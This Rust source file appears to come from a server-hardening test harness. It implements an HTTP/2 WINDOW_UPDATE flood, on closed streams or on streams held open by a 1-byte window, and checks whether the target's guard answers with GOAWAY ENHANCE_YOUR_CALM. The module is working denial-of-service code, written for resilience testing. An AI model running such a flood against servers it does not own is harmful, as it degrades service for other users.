//! `wuflood`: a control-frame flood (issue 14, attack D). Each of
//! `--wuflood-conns` connections finishes one GetQuote on stream 1, then
//! sends WINDOW_UPDATEs on that closed stream as fast as the socket takes
//! them, for `--wuflood-secs`. Such a frame moves nothing, and h2 drops it
//! without counting it, so no reset limit fires; a server with a
//! control-frame guard answers with GOAWAY ENHANCE_YOUR_CALM.
//!
//! `--wuflood-on open` (issue 23, attack 1) floods open streams instead:
//! each connection announces a 1-byte stream window, asks for
//! `--wuflood-streams` full pages (25 routes) and, once their response
//! HEADERS arrive, sends 1-byte WINDOW_UPDATEs on them, round robin, in
//! the same tight loop. Each lets the server send one more byte of a page
//! (none once the connection's own 65,535-byte window is spent), so they
//! make no progress either, but on a stream that is open. With
//! `--wuflood-reconnect`, a connection the server closes is replaced at
//! once, as a determined attacker would. The probe's p50 and p99 say what
//! another client's GetQuote suffered meanwhile. The probe runs in this
//! process, beside the flooders, so on a busy machine its tail also carries
//! their CPU; to measure from a process of its own, run a second `abuse`
//! against the same target meanwhile (e.g. `bigframes --bigframes-conns 1
//! --bigframes-hold-secs 12`, an idle connection and the probe).

use std::{
    sync::{
        Arc, Mutex,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use h2_frames::{kind, setting};
use h2_peer::{grpc, raw::RawConn};
use serde::Serialize;
use tokio::{sync::mpsc, task::JoinSet, time::Instant};

use super::{Context, Findings, FramesSeen, Tally, describe_tally, secs, watch_frames};
use crate::Error;

/// Where `wuflood` sends its WINDOW_UPDATEs.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, clap::ValueEnum, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum FloodOn {
    /// Stream 1, once its GetQuote is over (issue 14, D).
    #[default]
    Closed,
    /// Full-page streams held open by a 1-byte window (issue 23).
    Open,
}

/// The stream window an `open` flooder announces: 1 byte, so each page
/// stays open and each update lets one byte through.
const TINY_WINDOW: u32 = 1;

/// WINDOW_UPDATEs queued per write: 1,000 frames are 13 kB.
const BATCH: u64 = 1_000;

/// The GetQuote that closes stream 1 must be answered within 5 s.
const CALL_LIMIT: Duration = Duration::from_secs(5);

/// The stream the flood targets: the first, finished, call's.
const CLOSED_STREAM: u32 = 1;

#[derive(Debug, Default, Serialize)]
struct Details {
    flooders: u32,
    on: FloodOn,
    /// Streams each connection floods (1 for `closed`).
    streams: u32,
    reconnect: bool,
    /// Connections used in all (more than `flooders` only with reconnects).
    connections: u64,
    window_updates_sent: u64,
    flood_s: f64,
    /// GOAWAYs received, by code and debug data.
    goaways: Tally,
    /// Connections the server closed.
    closed_by_server: u64,
    /// Frames a connection had sent when its GOAWAY came, median.
    #[serde(skip_serializing_if = "Option::is_none")]
    sent_before_goaway_median: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    first_error: Option<String>,
    #[serde(skip)]
    sent_before_goaway: Vec<u64>,
}

/// What every flooder adds to.
#[derive(Debug, Default)]
struct Shared {
    sent: AtomicU64,
    details: Mutex<Details>,
}

impl Shared {
    fn record(&self, f: impl FnOnce(&mut Details)) {
        f(&mut self.details.lock().unwrap_or_else(|e| e.into_inner()));
    }
}

/// What each flooder does.
#[derive(Debug, Clone, Copy)]
struct Plan {
    on: FloodOn,
    streams: u32,
    deadline: Instant,
    max: u64,
}

pub async fn run(ctx: &Context) -> Result<Findings, Error> {
    let knobs = &ctx.knobs;
    let started = Instant::now();
    let plan = Plan {
        on: knobs.wuflood_on,
        streams: match knobs.wuflood_on {
            FloodOn::Closed => 1,
            FloodOn::Open => knobs.wuflood_streams,
        },
        deadline: started + Duration::from_secs(knobs.wuflood_secs),
        max: knobs.wuflood_max,
    };
    let shared = Arc::new(Shared::default());
    shared.record(|d| {
        d.flooders = knobs.wuflood_conns;
        d.reconnect = knobs.wuflood_reconnect;
        d.on = plan.on;
        d.streams = plan.streams;
    });
    let mut set = JoinSet::new();
    for _ in 0..knobs.wuflood_conns {
        let (dial, shared) = (ctx.dial(), shared.clone());
        let (max, reconnect, deadline) = (plan.max, knobs.wuflood_reconnect, plan.deadline);
        set.spawn(async move {
            loop {
                flood_one(&dial, plan, &shared).await;
                let spent = shared.sent.load(Ordering::Relaxed) >= max;
                if !reconnect || spent || Instant::now() >= deadline {
                    break;
                }
            }
        });
    }
    while set.join_next().await.is_some() {}

    let mut d = std::mem::take(&mut *shared.details.lock().unwrap_or_else(|e| e.into_inner()));
    d.window_updates_sent = shared.sent.load(Ordering::Relaxed);
    d.flood_s = secs(started.elapsed());
    let mut counts = std::mem::take(&mut d.sent_before_goaway);
    counts.sort_unstable();
    d.sent_before_goaway_median = counts.get(counts.len().saturating_sub(1) / 2).copied();
    let target = match d.on {
        FloodOn::Closed => "a closed stream".to_owned(),
        FloodOn::Open => format!("{} open streams each", d.streams),
    };
    let outcome = if d.goaways.is_empty() {
        format!(
            "no GOAWAY: {} WINDOW_UPDATEs on {target} in {:.1}s on {} connections, {} closed by the server",
            d.window_updates_sent, d.flood_s, d.connections, d.closed_by_server
        )
    } else {
        format!(
            "GOAWAY {} on {} of {} connections (median {} frames sent before it); {} WINDOW_UPDATEs in {:.1}s",
            describe_tally(&d.goaways),
            d.goaways.values().sum::<usize>(),
            d.connections,
            d.sent_before_goaway_median.unwrap_or(0),
            d.window_updates_sent,
            d.flood_s
        )
    };
    Ok(Findings::new(outcome, d))
}

/// One connection: a GetQuote on stream 1 (or pages held open), then the
/// flood until the deadline, the frame bound, or the server ends the
/// connection.
async fn flood_one(dial: &super::Dial, plan: Plan, shared: &Shared) {
    let Plan { deadline, max, .. } = plan;
    let fail = |e: String| {
        shared.record(|d| {
            d.first_error.get_or_insert(e);
        });
    };
    let mut conn = match dial.raw().await {
        Ok(conn) => conn,
        Err(e) => {
            fail(format!("connect: {e}"));
            // Do not spin on a server that refuses connections.
            tokio::time::sleep(Duration::from_millis(50)).await;
            return;
        }
    };
    shared.record(|d| d.connections += 1);
    let targets = match plan.on {
        FloodOn::Closed => finish_a_call(&mut conn).await.map(|()| vec![CLOSED_STREAM]),
        FloodOn::Open => hold_pages_open(&mut conn, plan.streams).await,
    };
    let targets = match targets {
        Ok(targets) => targets,
        Err(e) => return fail(e),
    };
    let started = Instant::now();
    let (reader, mut writer) = conn.into_split();
    let seen = Arc::new(Mutex::new(FramesSeen::default()));
    let (ping_tx, mut ping_rx) = mpsc::channel(16);
    let watcher = tokio::spawn(watch_frames(reader, seen.clone(), ping_tx, None, started));
    let ended = || seen.lock().unwrap_or_else(|e| e.into_inner()).ended();

    let mut sent_here = 0u64;
    while Instant::now() < deadline && !ended() {
        let total = shared.sent.load(Ordering::Relaxed);
        if total >= max {
            break;
        }
        while let Ok(payload) = ping_rx.try_recv() {
            writer.queue_ping(payload, true);
        }
        let batch = BATCH.min(max - total);
        for i in 0..batch {
            let stream = targets[usize::try_from(i).unwrap_or(0) % targets.len()];
            writer.queue_window_update(stream, 1);
        }
        if writer.flush().await.is_err() {
            // Closed by the server: the reader will say how.
            break;
        }
        sent_here += batch;
        shared.sent.fetch_add(batch, Ordering::Relaxed);
        tokio::task::yield_now().await;
    }
    super::linger(&seen).await;
    watcher.abort();
    let seen = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    shared.record(|d| {
        if let Some(g) = &seen.goaway {
            *d.goaways.entry(g.label()).or_default() += 1;
            d.sent_before_goaway.push(sent_here);
        }
        if seen.closed_after_s.is_some() {
            d.closed_by_server += 1;
        }
    });
}

/// Sends a GetQuote on stream 1 and reads until its trailers, so the flood
/// targets a stream the server has closed (one it never saw would be a
/// protocol error, which h2 answers itself).
async fn finish_a_call(conn: &mut RawConn) -> Result<(), String> {
    conn.handshake()
        .await
        .map_err(|e| format!("handshake: {e}"))?;
    let authority = conn.peer().to_string();
    let headers = grpc::request_headers(&authority, grpc::GET_QUOTE, grpc::CONTENT_TYPE);
    let writer = conn.writer();
    writer.queue_headers(CLOSED_STREAM, &headers, false);
    writer.queue_data(CLOSED_STREAM, &grpc::framed_quote(), true);
    writer.flush().await.map_err(|e| format!("request: {e}"))?;
    let until = Instant::now() + CALL_LIMIT;
    loop {
        let left = until.saturating_duration_since(Instant::now());
        match conn.read_frame(left).await {
            Ok(Some(frame)) if frame.stream_id == CLOSED_STREAM && frame.ends_stream() => {
                return Ok(());
            }
            Ok(Some(_)) => {}
            Ok(None) => return Err("closed before the GetQuote was answered".into()),
            Err(e) => return Err(format!("GetQuote: {e}")),
        }
    }
}

/// Announces a 1-byte stream window, asks for `streams` full pages on
/// streams 1, 3, 5..., and returns those whose response HEADERS opened
/// (a page the server refuses, e.g. past its response budget, ends at
/// once and is not flooded). An error if none opened.
async fn hold_pages_open(conn: &mut RawConn, streams: u32) -> Result<Vec<u32>, String> {
    conn.handshake_with(&[(setting::INITIAL_WINDOW_SIZE, TINY_WINDOW)], CALL_LIMIT)
        .await
        .map_err(|e| format!("handshake: {e}"))?;
    let authority = conn.peer().to_string();
    let headers = grpc::request_headers(&authority, grpc::LIST_ROUTES, grpc::CONTENT_TYPE);
    let page = grpc::framed(&grpc::full_page_request());
    let asked: Vec<u32> = (0..streams).map(|i| 1 + 2 * i).collect();
    let writer = conn.writer();
    for &stream in &asked {
        writer.queue_headers(stream, &headers, false);
        writer.queue_data(stream, &page, true);
    }
    writer.flush().await.map_err(|e| format!("requests: {e}"))?;
    let (mut open, mut answered) = (Vec::new(), 0);
    let until = Instant::now() + CALL_LIMIT;
    while answered < asked.len() {
        let left = until.saturating_duration_since(Instant::now());
        match conn.read_frame(left).await {
            Ok(Some(frame)) if frame.kind == kind::HEADERS && asked.contains(&frame.stream_id) => {
                answered += 1;
                if !frame.ends_stream() {
                    open.push(frame.stream_id);
                }
            }
            Ok(Some(frame)) if frame.kind == kind::RST_STREAM => answered += 1,
            Ok(Some(_)) => {}
            Ok(None) => return Err("closed before the pages were answered".into()),
            Err(e) => return Err(format!("ListRoutes: {e}")),
        }
    }
    if open.is_empty() {
        return Err(format!("none of the {streams} pages stayed open"));
    }
    Ok(open)
}
